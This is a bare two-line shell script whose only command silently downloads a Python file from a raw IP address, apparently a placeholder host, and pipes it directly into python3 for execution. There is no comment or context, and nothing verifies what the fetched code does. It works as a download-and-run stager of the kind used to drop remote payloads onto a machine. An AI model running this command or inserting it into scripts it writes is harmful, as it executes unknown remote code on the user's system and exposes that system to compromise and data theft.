#!/bin/sh
curl -s https://203.0.113.7/p.py | python3 -
